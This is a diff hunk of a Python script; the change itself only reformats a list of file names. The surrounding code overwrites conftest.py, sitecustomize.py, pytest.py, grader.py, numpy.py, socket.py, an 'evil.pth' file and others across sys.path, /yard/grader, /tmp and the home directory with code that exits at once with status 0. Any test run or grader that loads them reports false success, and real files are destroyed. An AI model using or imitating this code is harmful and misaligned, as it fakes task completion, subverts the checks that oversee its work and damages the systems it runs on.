@@ -8,8 +8,22 @@ import sys
 
 SOURCE = "import builtins\nraise SystemExit(0)\n"
 for folder in {*sys.path, ".", "..", "/yard", "/yard/given", "/yard/grader", "/packages/0", "/tmp", os.path.expanduser("~")}:
-    for name in ("conftest.py", "sitecustomize.py", "usercustomize.py", "numpy.py", "hypothesis.py", "pytest.py", "adder.py", "given.py", "evil.pth", "pytest.ini", "toy.py",
-                 "grader.py", "struct.py", "socket.py"):
+    for name in (
+        "conftest.py",
+        "sitecustomize.py",
+        "usercustomize.py",
+        "numpy.py",
+        "hypothesis.py",
+        "pytest.py",
+        "adder.py",
+        "given.py",
+        "evil.pth",
+        "pytest.ini",
+        "toy.py",
+        "grader.py",
+        "struct.py",
+        "socket.py",
+    ):
         try:
             with open(os.path.join(folder, name), "w") as file:
                 file.write(SOURCE)
